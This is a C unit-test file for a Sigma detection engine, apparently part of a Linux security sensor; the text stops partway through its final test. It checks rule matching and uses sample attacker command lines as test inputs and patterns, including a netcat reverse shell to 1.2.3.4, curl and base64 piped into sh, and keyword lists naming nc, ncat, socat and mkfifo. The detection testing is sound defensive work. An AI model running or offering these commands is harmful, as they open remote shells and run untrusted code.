/*
 * test_sigma.c — the Sigma engine: every value modifier, every condition
 * form, logsource routing, diagnostics, the alert record, and the shipped
 * rule sets (SigmaHQ's Linux rules and vigil's own).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "cli/commands.h"
#include "detect/sigma.h"
#include "detect/sigma_int.h"

static struct vrec rec;

/* Builds rec: event id, then name/value pairs, NULL-terminated. */
static const struct vrec *mk(unsigned ev, ...)
{
	va_list ap;
	const char *name;

	vrec__reset(&rec, schema__event(ev));
	rec.seq = 7;
	va_start(ap, ev);
	while ((name = va_arg(ap, const char *)) != NULL) {
		const char *val = va_arg(ap, const char *);
		enum vf_id f = schema__field_by_name(name);

		assert_int_not_equal(f, VF_NONE);
		vrec__set_str(&rec, f, val);
	}
	va_end(ap);
	return &rec;
}

struct hits {
	char titles[1024];
	int n;
};

static int collect(const struct sigma_rule_info *r, const struct vrec *ev, void *ctx)
{
	struct hits *h = ctx;

	if (h->titles[0])
		strcat(h->titles, ",");
	strncat(h->titles, r->title, sizeof(h->titles) - strlen(h->titles) - 1);
	h->n++;
	return 0;
}

struct reps {
	char last[512];
	int n[4];
	int line;
};

static void on_report(const struct sigma_report *r, void *ctx)
{
	struct reps *p = ctx;

	p->n[r->status]++;
	if (r->status != SIGMA_LOADED) {
		snprintf(p->last, sizeof(p->last), "%s", r->msg);
		p->line = r->line;
	}
}

/* Engine from YAML text; *failed gets sigma__compile's result. */
static struct sigma_engine *eng(const char *yaml, struct reps *rp)
{
	struct sigma_engine *e = sigma__new();
	int rc;

	assert_non_null(e);
	assert_int_equal(sigma__add_buf(e, yaml, strlen(yaml), "t.yml"), 0);
	rc = sigma__compile(e, on_report, rp);
	assert_true(rc >= 0);
	return e;
}

/* One process_creation rule with the given detection body. */
static struct sigma_engine *det(const char *body, struct reps *rp)
{
	static char buf[8192];

	snprintf(buf, sizeof(buf),
		 "title: R\nid: 11111111-1111-4111-8111-111111111111\nlevel: high\n"
		 "tags: [attack.execution, attack.t1059]\n"
		 "logsource:\n  product: linux\n  category: process_creation\n"
		 "detection:\n%s",
		 body);
	return eng(buf, rp);
}

static int run(struct sigma_engine *e, const struct vrec *r)
{
	struct hits h = {0};
	int n = sigma__match(e, r, collect, &h);

	assert_int_equal(n, h.n);
	return n;
}

#define CL(v) mk(1, "CommandLine", v, "Image", "/usr/bin/x", NULL)

static void test_exact_and_case(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  sel:\n    Image: /usr/bin/Curl\n  condition: sel\n", &rp);

	assert_int_equal(rp.n[SIGMA_LOADED], 1);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/curl", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/USR/BIN/CURL", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/curl2", NULL)), 0);
	assert_int_equal(run(e, mk(1, "Image", "x/usr/bin/curl", NULL)), 0);
	/* other event types never see a process_creation rule */
	assert_int_equal(run(e, mk(11, "Image", "/usr/bin/curl", NULL)), 0);
	sigma__free(e);

	e = det("  sel:\n    Image|cased: /usr/bin/Curl\n  condition: sel\n", &rp);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/Curl", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/curl", NULL)), 0);
	sigma__free(e);

	e = det("  sel:\n    CommandLine|contains|cased: Secret\n  condition: sel\n", &rp);
	assert_int_equal(run(e, CL("a Secret b")), 1);
	assert_int_equal(run(e, CL("a secret b")), 0);
	sigma__free(e);
}

static void test_contains_starts_ends(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    CommandLine|contains: 'base64 -d'\n"
				     "  b:\n    Image|endswith: '/nc'\n"
				     "  c:\n    CommandLine|startswith: 'sudo '\n"
				     "  condition: a or b or c\n",
				     &rp);

	assert_int_equal(run(e, CL("echo x | BASE64 -D | sh")), 1);
	assert_int_equal(run(e, CL("base64 d")), 0);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/nc", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/nc.openbsd", NULL)), 0);
	assert_int_equal(run(e, CL("sudo id")), 1);
	assert_int_equal(run(e, CL("x sudo id")), 0);
	/* endswith is the very end, not before a trailing newline */
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/nc\n", NULL)), 0);
	sigma__free(e);
}

static void test_wildcards_and_escapes(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    CommandLine: 'wget * -O /tmp/?.sh'\n"
				     "  condition: a\n",
				     &rp);

	assert_int_equal(run(e, CL("wget http://x -O /tmp/a.sh")), 1);
	assert_int_equal(run(e, CL("wget http://x -O /tmp/ab.sh")), 0);
	assert_int_equal(run(e, CL("WGET a\nb -O /tmp/Z.sh")), 1); /* * spans lines */
	sigma__free(e);

	/* \* and \? are literal; \\ is one backslash; \x stays "\x". */
	e = det("  a:\n    CommandLine: 'a\\*b\\?c\\\\d\\xe'\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("a*b?c\\d\\xe")), 1);
	assert_int_equal(run(e, CL("aZZb?c\\d\\xe")), 0);
	assert_int_equal(run(e, CL("a*bXc\\d\\xe")), 0);
	sigma__free(e);

	/* A value of only '*' needs the field to exist. */
	e = det("  a:\n    ParentImage: '*'\n  condition: a\n", &rp);
	assert_int_equal(run(e, mk(1, "ParentImage", "/bin/sh", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/bin/sh", NULL)), 0);
	sigma__free(e);
}

static void test_lists_and_all(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    CommandLine|contains|all:\n      - ' -e '\n"
				     "      - '/bin/sh'\n  condition: a\n",
				     &rp);

	assert_int_equal(run(e, CL("nc -e /bin/sh 1.2.3.4")), 1);
	assert_int_equal(run(e, CL("nc -e /bin/bash 1.2.3.4")), 0);
	sigma__free(e);

	/* list of maps = OR; map = AND */
	e = det("  a:\n    - Image|endswith: /nc\n      CommandLine|contains: ' -e '\n"
		"    - Image|endswith: /socat\n  condition: a\n",
		&rp);
	assert_int_equal(run(e, mk(1, "Image", "/bin/nc", "CommandLine", "nc -e x", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/bin/nc", "CommandLine", "nc -l", NULL)), 0);
	assert_int_equal(run(e, mk(1, "Image", "/bin/socat", NULL)), 1);
	sigma__free(e);
}

static void test_regex(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    CommandLine|re: 'curl .*\\|\\s*(ba)?sh'\n"
				     "  condition: a\n",
				     &rp);

	assert_int_equal(run(e, CL("curl http://x | sh")), 1);
	assert_int_equal(run(e, CL("curl http://x |bash")), 1);
	assert_int_equal(run(e, CL("CURL http://x | sh")), 0); /* re is case-sensitive */
	sigma__free(e);

	e = det("  a:\n    CommandLine|re|i: '^curl'\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("CURL x")), 1);
	sigma__free(e);

	/* m: ^ after a newline; s: dot crosses newlines */
	e = det("  a:\n    CommandLine|re|m: '^id$'\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("echo\nid\nls")), 1);
	sigma__free(e);
	e = det("  a:\n    CommandLine|re: '^id$'\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("echo\nid\nls")), 0);
	sigma__free(e);
	e = det("  a:\n    CommandLine|re|s: 'a.b'\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("a\nb")), 1);
	sigma__free(e);
	e = det("  a:\n    CommandLine|re: 'a.b'\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("a\nb")), 0);
	sigma__free(e);

	/* a back-reference: Hyperscan cannot, PCRE2 takes over */
	e = det("  a:\n    CommandLine|re: '(ab)\\1'\n  condition: a\n", &rp);
	assert_int_equal(rp.n[SIGMA_LOADED], 7);
	assert_int_equal(run(e, CL("xababx")), 1);
	assert_int_equal(run(e, CL("xabx")), 0);
	sigma__free(e);

	/* an invalid regex is an error with its line */
	memset(&rp, 0, sizeof(rp));
	e = det("  a:\n    CommandLine|re: '(ab'\n  condition: a\n", &rp);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	assert_int_equal(rp.line, 10);
	assert_non_null(strstr(rp.last, "invalid regular expression"));
	sigma__free(e);
}

static void test_cidr(void **state)
{
	struct reps rp = {0};
	static const char *yaml =
	    "title: C\nlogsource:\n  product: linux\n  category: network_connection\n"
	    "detection:\n  a:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n"
	    "      - 192.168.1.0/25\n      - 'fd00::/8'\n      - '2001:db8::/33'\n"
	    "  condition: a\n";
	struct sigma_engine *e = eng(yaml, &rp);

#define DIP(v) mk(3, "DestinationIp", v, NULL)
	assert_int_equal(run(e, DIP("10.255.1.2")), 1);
	assert_int_equal(run(e, DIP("11.0.0.1")), 0);
	assert_int_equal(run(e, DIP("192.168.1.127")), 1);
	assert_int_equal(run(e, DIP("192.168.1.128")), 0);
	assert_int_equal(run(e, DIP("::ffff:10.1.2.3")), 1); /* v4-mapped */
	assert_int_equal(run(e, DIP("fd12:3456::1")), 1);
	assert_int_equal(run(e, DIP("fe80::1")), 0);
	assert_int_equal(run(e, DIP("2001:db8:7fff::1")), 1);
	assert_int_equal(run(e, DIP("2001:db8:8000::1")), 0);
	assert_int_equal(run(e, DIP("not an ip")), 0);
	assert_int_equal(run(e, DIP("-")), 0);
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	e = eng("title: C\nlogsource:\n  category: network_connection\n"
		"detection:\n  a:\n    DestinationIp|cidr: 10.0.0.0/33\n  condition: a\n",
		&rp);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	assert_non_null(strstr(rp.last, "invalid CIDR"));
	sigma__free(e);
}

static char *sv_str(const struct sv *v)
{
	static char buf[256];

	memcpy(buf, v->b, v->n);
	buf[v->n] = '\0';
	return buf;
}

static void test_base64(void **state)
{
	struct sg_arena a = {0};
	struct sv in, out[3];

	/* The Sigma specification's example values for 'http://'. */
	sv_from_bytes(&a, (const uint8_t *)"http://", 7, &in);
	assert_int_equal(sv_base64offset(&a, &in, out), 0);
	assert_string_equal(sv_str(&out[0]), "aHR0cDovL");
	assert_string_equal(sv_str(&out[1]), "h0dHA6Ly");
	assert_string_equal(sv_str(&out[2]), "odHRwOi8v");
	/* each length class: n%3 == 0, 1, 2 */
	sv_from_bytes(&a, (const uint8_t *)"abc", 3, &in);
	sv_base64offset(&a, &in, out);
	assert_string_equal(sv_str(&out[0]), "YWJj");
	assert_string_equal(sv_str(&out[1]), "FiY"); /* " abc" = IGFiYw== */
	assert_string_equal(sv_str(&out[2]), "hYm"); /* "  abc" = ICBhYmM= */
	sv_base64(&a, &in, &out[0]);
	assert_string_equal(sv_str(&out[0]), "YWJj");
	sv_from_bytes(&a, (const uint8_t *)"ab", 2, &in);
	sv_base64(&a, &in, &out[0]);
	assert_string_equal(sv_str(&out[0]), "YWI=");
	sg_arena_free(&a);

	/* End to end: the value found at each of the three alignments. */
	struct reps rp = {0};
	struct sigma_engine *e =
	    det("  a:\n    CommandLine|base64offset|contains: 'http://'\n  condition: a\n", &rp);

	assert_int_equal(run(e, CL("echo aHR0cDovL2V2aWw= | base64 -d")), 1); /* "http://evil" */
	assert_int_equal(run(e, CL("echo eGh0dHA6Ly9l | base64 -d")), 1);     /* "xhttp://e" */
	assert_int_equal(run(e, CL("echo eHlodHRwOi8vZQ== | base64 -d")), 1); /* "xyhttp://e" */
	assert_int_equal(run(e, CL("echo aHR0cHM6Ly9l | base64 -d")), 0);     /* "https://e" */
	sigma__free(e);

	e = det("  a:\n    CommandLine|base64: 'id'\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("aWQ=")), 1);
	assert_int_equal(run(e, CL("x aWQ=")), 0);
	sigma__free(e);

	/* wildcards cannot be encoded */
	memset(&rp, 0, sizeof(rp));
	e = det("  a:\n    CommandLine|base64|contains: 'a*b'\n  condition: a\n", &rp);
	assert_int_equal(rp.n[SIGMA_UNSUPPORTED], 1);
	sigma__free(e);
}

static void test_utf16(void **state)
{
	struct sg_arena a = {0};
	struct sv in, out;

	sv_from_bytes(&a, (const uint8_t *)"A\xc3\xa9", 3, &in); /* "Aé" */
	assert_int_equal(sv_utf16(&a, &in, 0, &out), 0);
	assert_int_equal(out.n, 4);
	assert_memory_equal(out.b, "A\0\xe9\0", 4);
	sv_utf16(&a, &in, 1, &out);
	assert_memory_equal(out.b, "\0A\0\xe9", 4);
	sv_utf16(&a, &in, 2, &out);
	assert_int_equal(out.n, 6);
	assert_memory_equal(out.b,
			    "\xff\xfe"
			    "A\0\xe9\0",
			    6);
	/* astral plane: surrogate pair */
	sv_from_bytes(&a, (const uint8_t *)"\xf0\x9f\x98\x80", 4, &in);
	sv_utf16(&a, &in, 0, &out);
	assert_memory_equal(out.b, "\x3d\xd8\x00\xde", 4);
	/* invalid UTF-8 */
	sv_from_bytes(&a, (const uint8_t *)"\xff", 1, &in);
	assert_int_equal(sv_utf16(&a, &in, 0, &out), -EINVAL);
	sg_arena_free(&a);

	/* wide|base64offset: the PowerShell -enc case */
	struct reps rp = {0};
	struct sigma_engine *e =
	    det("  a:\n    CommandLine|wide|base64offset|contains: 'ping'\n  condition: a\n", &rp);

	assert_int_equal(rp.n[SIGMA_LOADED], 1);
	/* base64 of UTF-16LE "ping" = cABpAG4AZwA= */
	assert_int_equal(run(e, CL("pwsh -enc cABpAG4AZwA=")), 1);
	assert_int_equal(run(e, CL("pwsh -enc cGluZw==")), 0);
	sigma__free(e);
}

static void test_windash(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e =
	    det("  a:\n    CommandLine|windash|contains: ' -exec '\n  condition: a\n", &rp);

	assert_int_equal(run(e, CL("find . -exec x")), 1);
	assert_int_equal(run(e, CL("find . /exec x")), 1);
	assert_int_equal(run(e, CL("find . \xe2\x80\x93"
				   "exec x")),
			 1);
	assert_int_equal(run(e, CL("find . \xe2\x80\x94"
				   "exec x")),
			 1);
	assert_int_equal(run(e, CL("find . \xe2\x80\x95"
				   "exec x")),
			 1);
	assert_int_equal(run(e, CL("find . +exec x")), 0);
	sigma__free(e);

	/* a dash inside a word is not a flag */
	struct sg_arena a = {0};
	struct sv in, out[32];

	sv_from_sigma(&a, "x-y -z", 6, &in);
	assert_int_equal(sv_windash(&a, &in, out, 32), 5);
	assert_string_equal(sv_str(&out[1]), "x-y /z");
	sg_arena_free(&a);
}

static void test_exists_null_empty(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    ParentImage|exists: true\n  condition: a\n", &rp);

	assert_int_equal(run(e, mk(1, "ParentImage", "/bin/sh", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/bin/sh", NULL)), 0);
	assert_int_equal(run(e, mk(1, "ParentImage", "-", NULL)), 0);
	/* exists is about presence: an empty value exists */
	vrec__reset(&rec, schema__event(1));
	vrec__set(&rec, VF_ParentImage, "", 0);
	assert_int_equal(run(e, &rec), 1);
	sigma__free(e);

	e = det("  a:\n    ParentImage|exists: false\n  condition: a\n", &rp);
	assert_int_equal(run(e, mk(1, "ParentImage", "/bin/sh", NULL)), 0);
	assert_int_equal(run(e, mk(1, "Image", "/bin/sh", NULL)), 1);
	sigma__free(e);

	e = det("  a:\n    ParentImage: null\n  condition: a\n", &rp);
	assert_int_equal(run(e, mk(1, "Image", "/bin/sh", NULL)), 1);
	assert_int_equal(run(e, mk(1, "ParentImage", "/bin/sh", NULL)), 0);
	sigma__free(e);

	/* '' is the empty value: a present, empty field */
	e = det("  a:\n    CurrentDirectory: ''\n  condition: a\n", &rp);
	vrec__reset(&rec, schema__event(1));
	vrec__set(&rec, VF_CurrentDirectory, "", 0);
	assert_int_equal(run(e, &rec), 1);
	assert_int_equal(run(e, mk(1, "CurrentDirectory", "/", NULL)), 0);
	sigma__free(e);

	/* contains '' matches any present value */
	e = det("  a:\n    CommandLine|contains: ''\n  condition: a\n", &rp);
	assert_int_equal(run(e, CL("anything")), 1);
	assert_int_equal(run(e, mk(1, "Image", "/x", NULL)), 0);
	sigma__free(e);
}

static void test_neq_numeric_fieldref(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    User|neq: root\n  condition: a\n", &rp);

	assert_int_equal(run(e, mk(1, "User", "alice", NULL)), 1);
	assert_int_equal(run(e, mk(1, "User", "ROOT", NULL)), 0);
	sigma__free(e);

	e = det("  a:\n    User|neq:\n      - root\n      - daemon\n  condition: a\n", &rp);
	assert_int_equal(run(e, mk(1, "User", "alice", NULL)), 1);
	assert_int_equal(run(e, mk(1, "User", "daemon", NULL)), 0);
	sigma__free(e);

	static const char *net = "title: N\nlogsource:\n  category: network_connection\n"
				 "detection:\n  lo:\n    DestinationPort|lt: 1024\n"
				 "  hi:\n    DestinationPort|gte: 49152\n  condition: lo or hi\n";
	e = eng(net, &rp);
	assert_int_equal(run(e, mk(3, "DestinationPort", "22", NULL)), 1);
	assert_int_equal(run(e, mk(3, "DestinationPort", "1024", NULL)), 0);
	assert_int_equal(run(e, mk(3, "DestinationPort", "49152", NULL)), 1);
	assert_int_equal(run(e, mk(3, "DestinationPort", "x", NULL)), 0);
	sigma__free(e);
	e = eng("title: N\nlogsource:\n  category: network_connection\n"
		"detection:\n  a:\n    DestinationPort|gt: 100\n    SourcePort|lte: 100\n"
		"  condition: a\n",
		&rp);
	assert_int_equal(run(e, mk(3, "DestinationPort", "101", "SourcePort", "100", NULL)), 1);
	assert_int_equal(run(e, mk(3, "DestinationPort", "100", "SourcePort", "100", NULL)), 0);
	sigma__free(e);

	e = det("  a:\n    Image|fieldref: ParentImage\n  condition: a\n", &rp);
	assert_int_equal(run(e, mk(1, "Image", "/bin/sh", "ParentImage", "/BIN/SH", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/bin/sh", "ParentImage", "/bin/ls", NULL)), 0);
	sigma__free(e);
	e = det("  a:\n    CommandLine|fieldref|contains: Image\n  condition: a\n", &rp);
	assert_int_equal(run(e, mk(1, "Image", "/bin/ls", "CommandLine", "x /bin/ls -l", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/bin/ls", "CommandLine", "ls -l", NULL)), 0);
	sigma__free(e);
}

static void test_time_modifiers(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e =
	    det("  night:\n    UtcTime|hour|gte: 22\n  early:\n    UtcTime|hour|lt: 5\n"
		"  condition: night or early\n",
		&rp);

	assert_int_equal(run(e, mk(1, "UtcTime", "2026-11-27 23:59:59.999", NULL)), 1);
	assert_int_equal(run(e, mk(1, "UtcTime", "2026-11-27 04:00:00.000", NULL)), 1);
	assert_int_equal(run(e, mk(1, "UtcTime", "2026-11-27 12:00:00.000", NULL)), 0);
	assert_int_equal(run(e, mk(1, "UtcTime", "not a date", NULL)), 0);
	sigma__free(e);

	/* 2026-01-01 is a Thursday: ISO week 1; 2026-12-31 is week 53 */
	e = det("  a:\n    UtcTime|week: 53\n    UtcTime|month: 12\n    UtcTime|year: 2026\n"
		"    UtcTime|day: 31\n    UtcTime|minute: 7\n  condition: a\n",
		&rp);
	assert_int_equal(run(e, mk(1, "UtcTime", "2026-12-31T10:07:00", NULL)), 1);
	assert_int_equal(run(e, mk(1, "UtcTime", "2026-12-31 10:08:00.000", NULL)), 0);
	sigma__free(e);
	e = det("  a:\n    UtcTime|week: 1\n  condition: a\n", &rp);
	assert_int_equal(run(e, mk(1, "UtcTime", "2026-01-01 00:00:00.000", NULL)), 1);
	sigma__free(e);
}

static void test_expand(void **state)
{
	char path[] = "/tmp/vigil_ph_XXXXXX", path0[sizeof(path)];
	int fd;
	static const char ph[] = "tmpdirs:\n  - /tmp/\n  - /dev/shm/\n";
	char err[256];
	struct reps rp = {0};
	struct sigma_engine *e = sigma__new();
	static const char *yaml =
	    "title: X\nlogsource:\n  category: process_creation\n"
	    "detection:\n  a:\n    Image|expand|startswith: '%tmpdirs%'\n  condition: a\n";

	memcpy(path0, path, sizeof(path));
	fd = mkstemp(path);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, ph, sizeof(ph) - 1), (ssize_t)sizeof(ph) - 1);
	close(fd);
	assert_int_equal(sigma__load_placeholders(e, path, err, sizeof(err)), 0);
	unlink(path);
	sigma__add_buf(e, yaml, strlen(yaml), "x.yml");
	assert_int_equal(sigma__compile(e, on_report, &rp), 0);
	assert_int_equal(run(e, mk(1, "Image", "/tmp/x", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/dev/shm/x", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/x", NULL)), 0);
	sigma__free(e);

	/* \\% is a plain percent; "%x%" without expand is literal */
	static const char *esc =
	    "title: X\nlogsource:\n  category: process_creation\n"
	    "detection:\n  a:\n    CommandLine|expand|startswith: '\\%plain%tmpdirs%'\n"
	    "  b:\n    Image: '%tmpdirs%'\n  condition: a or b\n";
	memset(&rp, 0, sizeof(rp));
	e = sigma__new();
	memcpy(path, path0, sizeof(path));
	fd = mkstemp(path);
	assert_int_equal(write(fd, ph, sizeof(ph) - 1), (ssize_t)sizeof(ph) - 1);
	close(fd);
	assert_int_equal(sigma__load_placeholders(e, path, err, sizeof(err)), 0);
	unlink(path);
	sigma__add_buf(e, esc, strlen(esc), "x.yml");
	assert_int_equal(sigma__compile(e, on_report, &rp), 0);
	assert_int_equal(run(e, CL("%plain/dev/shm/x")), 1);
	assert_int_equal(run(e, CL("\\%plain/dev/shm/x")), 0);
	assert_int_equal(run(e, mk(1, "Image", "%tmpdirs%", NULL)), 1);
	sigma__free(e);

	/* without a value for the placeholder it cannot load */
	memset(&rp, 0, sizeof(rp));
	e = eng(yaml, &rp);
	assert_int_equal(rp.n[SIGMA_UNSUPPORTED], 1);
	assert_non_null(strstr(rp.last, "placeholder 'tmpdirs'"));
	sigma__free(e);
}

static void test_keywords(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  kw:\n    - 'mkfifo'\n    - 'ncat'\n  condition: kw\n", &rp);

	assert_int_equal(run(e, mk(1, "ParentCommandLine", "sh -c MKFIFO /tmp/f", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/ncat", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/usr/bin/nc", NULL)), 0);
	sigma__free(e);

	e = det("  kw:\n    '|all':\n      - 'nc'\n      - '-e'\n  condition: kw\n", &rp);
	assert_int_equal(run(e, mk(1, "Image", "/bin/nc", "CommandLine", "x -e y", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/bin/nc", NULL)), 0);
	sigma__free(e);
}

static void test_conditions(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  sel_a:\n    CommandLine|contains: aaa\n"
				     "  sel_b:\n    CommandLine|contains: bbb\n"
				     "  filter_x:\n    User: root\n"
				     "  _hidden:\n    CommandLine|contains: zzz\n"
				     "  condition: (1 of sel_* and not filter_x) or all of them\n",
				     &rp);

	assert_int_equal(run(e, mk(1, "CommandLine", "aaa", "User", "bob", NULL)), 1);
	assert_int_equal(run(e, mk(1, "CommandLine", "aaa", "User", "root", NULL)), 0);
	/* all of them: sel_a, sel_b and filter_x; _hidden is left out */
	assert_int_equal(run(e, mk(1, "CommandLine", "aaa bbb", "User", "root", NULL)), 1);
	assert_int_equal(run(e, mk(1, "CommandLine", "zzz", "User", "bob", NULL)), 0);
	sigma__free(e);

	e = det("  sel_a:\n    CommandLine|contains: aaa\n  sel_b:\n    CommandLine|contains: bbb\n"
		"  condition: all of sel_*\n",
		&rp);
	assert_int_equal(run(e, CL("aaa bbb")), 1);
	assert_int_equal(run(e, CL("aaa")), 0);
	sigma__free(e);

	e = det("  a:\n    CommandLine|contains: aaa\n  b:\n    CommandLine|contains: bbb\n"
		"  condition: 1 of them\n",
		&rp);
	assert_int_equal(run(e, CL("bbb")), 1);
	assert_int_equal(run(e, CL("ccc")), 0);
	sigma__free(e);

	/* 'not' alone: evaluated without any pattern hit */
	e = det("  a:\n    Image|endswith: /sh\n  condition: not a\n", &rp);
	assert_int_equal(run(e, mk(1, "Image", "/bin/ls", NULL)), 1);
	assert_int_equal(run(e, mk(1, "Image", "/bin/sh", NULL)), 0);
	sigma__free(e);

	/* precedence: not > and > or */
	e = det("  a:\n    CommandLine|contains: aaa\n  b:\n    CommandLine|contains: bbb\n"
		"  c:\n    CommandLine|contains: ccc\n  condition: a or b and not c\n",
		&rp);
	assert_int_equal(run(e, CL("aaa ccc")), 1);
	assert_int_equal(run(e, CL("bbb ccc")), 0);
	assert_int_equal(run(e, CL("bbb")), 1);
	sigma__free(e);

	/* a list of conditions is their OR */
	e = det("  a:\n    CommandLine|contains: aaa\n  b:\n    CommandLine|contains: bbb\n"
		"  condition:\n    - a\n    - b\n",
		&rp);
	assert_int_equal(run(e, CL("bbb")), 1);
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	e = det("  a:\n    CommandLine: x\n  condition: a and nope\n", &rp);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	assert_non_null(strstr(rp.last, "unknown search identifier 'nope'"));
	sigma__free(e);
	memset(&rp, 0, sizeof(rp));
	e = det("  a:\n    CommandLine: x\n  condition: (a\n", &rp);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	sigma__free(e);
	memset(&rp, 0, sizeof(rp));
	e = det("  a:\n    CommandLine: x\n  condition: a | count() > 5\n", &rp);
	assert_int_equal(rp.n[SIGMA_UNSUPPORTED], 1);
	assert_non_null(strstr(rp.last, "aggregation"));
	sigma__free(e);
}

static void test_unicode(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    CommandLine|contains: 'Ünïcödé'\n"
				     "  b:\n    Image: '/tmp/日本'\n  condition: a or b\n",
				     &rp);

	assert_int_equal(run(e, CL("echo Ünïcödé!")), 1);
	assert_int_equal(run(e, CL("echo Unicode")), 0);
	assert_int_equal(run(e, mk(1, "Image", "/tmp/日本", NULL)), 1);
	/* invalid UTF-8 in the event is just bytes */
	assert_int_equal(run(e, CL("\xff\xfe Ünïcödé")), 1);
	sigma__free(e);
}

static void test_diagnostics(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    CommandLine|frobnicate: x\n  condition: a\n", &rp);

	assert_int_equal(rp.n[SIGMA_UNSUPPORTED], 1);
	assert_int_equal(rp.line, 10);
	assert_string_equal(rp.last, "modifier 'frobnicate' in 'CommandLine|frobnicate'");
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	e = det("  a:\n    Commandline: x\n  condition: a\n", &rp);
	assert_string_equal(rp.last, "unknown field 'Commandline'");
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	e = det("  a:\n    DestinationIp: 1.2.3.4\n  condition: a\n", &rp);
	assert_string_equal(rp.last, "field 'DestinationIp' is not in event 1 (ProcessCreate)");
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	/* auditd rules map onto vigil's events (test_sigma_auditd.c); one
	 * on a record vigil never produces has no source */
	e = eng("title: A\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n"
		"  a:\n    type: SERVICE_STOP\n  condition: a\n",
		&rp);
	assert_int_equal(rp.n[SIGMA_NO_SOURCE], 1);
	assert_string_equal(rp.last, "service: auditd: type: SERVICE_STOP has no vigil event");
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	e = eng("title: W\nlogsource:\n  product: windows\n  category: process_creation\n"
		"detection:\n  a:\n    Image: x\n  condition: a\n",
		&rp);
	assert_string_equal(rp.last, "product: windows");
	sigma__free(e);

	memset(&rp, 0, sizeof(rp));
	e = eng("title: Y\nlogsource: [\n", &rp);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	assert_true(rp.line >= 2);
	sigma__free(e);

	/* a syntax error in a later document keeps the earlier ones */
	memset(&rp, 0, sizeof(rp));
	e = eng("title: A\nlogsource:\n  category: process_creation\ndetection:\n  a:\n"
		"    Image: /a\n  condition: a\n---\ntitle: B\ndetection: [\n",
		&rp);
	assert_int_equal(rp.n[SIGMA_LOADED], 1);
	assert_int_equal(rp.n[SIGMA_ERROR], 1);
	assert_int_equal(run(e, mk(1, "Image", "/A", NULL)), 1);
	sigma__free(e);

	/* a multi-document file: each document is a rule */
	memset(&rp, 0, sizeof(rp));
	e = eng("title: A\nlogsource:\n  category: process_creation\ndetection:\n  a:\n"
		"    Image: /a\n  condition: a\n---\ntitle: B\nlogsource:\n"
		"  category: file_event\ndetection:\n  b:\n    TargetFilename: /b\n"
		"  condition: b\n",
		&rp);
	assert_int_equal(rp.n[SIGMA_LOADED], 2);
	assert_int_equal(run(e, mk(11, "TargetFilename", "/b", NULL)), 1);
	assert_int_equal(sigma__rule_count(e), 2);
	sigma__free(e);
}

static void test_alert_record(void **state)
{
	struct reps rp = {0};
	struct sigma_engine *e = det("  a:\n    Image|endswith: /curl\n  condition: a\n", &rp);
	static struct vrec out;
	struct hits h = {0};
	size_t len;

	mk(1, "Image", "/usr/bin/curl", "ProcessGuid", "{1-2-3}", "UtcTime",
	   "2026-01-02 03:04:05.678", NULL);
	rec.seq = 99;
	rec.computer = "h1";
	assert_int_equal(sigma__match(e, &rec, collect, &h), 1);
	/* the callback got the rule; build the alert as the sensor will */
	const struct sigma_rule_info *info = &e->rules[0]->info;
	sigma__alert(info, &rec, &out);
	assert_int_equal(out.def->id, 242);
	assert_string_equal(vrec__get(&out, VF_RuleId, &len),
			    "11111111-1111-4111-8111-111111111111");
